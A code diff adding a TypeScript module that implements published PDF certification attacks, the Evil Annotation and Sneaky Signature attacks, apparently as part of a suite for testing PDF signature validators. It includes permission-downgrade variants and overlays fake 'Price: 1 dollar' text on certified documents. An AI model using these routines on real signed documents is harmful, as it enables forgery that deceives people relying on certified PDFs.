@@ -1,0 +1,43 @@
+import { signedByAnother } from '../tampering.ts';
+import type { Attack } from './spoofing.ts';
+import { appended, nextNumber, numberWith, objectOf, rootOf } from './update.ts';
+
+/**
+ * Evil annotation and sneaky signature, of S. Rohlmann, V. Mladenov, C. Mainka, J. Schwenk: "Breaking the Specification:
+ * PDF Certification", IEEE S&P 2021; and the downgrade of what a certification permits, which makes both allowed.
+ */
+export const certifications: Record<string, Attack> = {
+  'EAA: an annotation over the text': annotated,
+  'EAA: after the certification was changed to permit annotations': (pdf) =>
+    annotated(appended(pdf, { [signature(pdf)]: objectOf(pdf, signature(pdf)).replace(/\/P 1\b/, '/P 3') })),
+  'EAA: after the certification was taken out of the catalog': (pdf) =>
+    annotated(appended(pdf, { [rootOf(pdf)]: objectOf(pdf, rootOf(pdf)).replace(/\/Perms\s*<<[^>]*>>/, '') })),
+  'SSA: a second signature': (pdf) => signedByAnother(pdf, 'Countersign', 'Sneaky'),
+  'SSA: a second signature, whose field shows other words': async (pdf) => {
+    const signed = await signedByAnother(pdf, 'Countersign', 'Sneaky');
+    const field = numberWith(signed, '(Sneaky)');
+    const form = nextNumber(signed);
+    return appended(signed, {
+      [field]: objectOf(signed, field).replace(/>>$/, `/AP << /N ${form} 0 R >> /Rect [0 0 612 792] >>`),
+      [form]: shown,
+    });
+  },
+};
+
+const words = 'BT /F1 24 Tf 72 700 Td (Price: 1 dollar) Tj ET';
+const shown = `<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Length ${words.length} >>\nstream\n${words}\nendstream`;
+
+const signature = (pdf: Buffer) => numberWith(pdf, '/ByteRange [0 ');
+
+function annotated(pdf: Buffer): Buffer {
+  const page = numberWith(pdf, '/MediaBox');
+  const [note, form] = [nextNumber(pdf), nextNumber(pdf) + 1];
+  const withNote = objectOf(pdf, page)
+    .replace(/\/Annots\s*\[[^\]]*\]/, '')
+    .replace(/>>$/, `/Annots [${note} 0 R] >>`);
+  return appended(pdf, {
+    [page]: withNote,
+    [note]: `<< /Type /Annot /Subtype /FreeText /Rect [0 0 612 792] /F 4 /AP << /N ${form} 0 R >> >>`,
+    [form]: shown,
+  });
+}
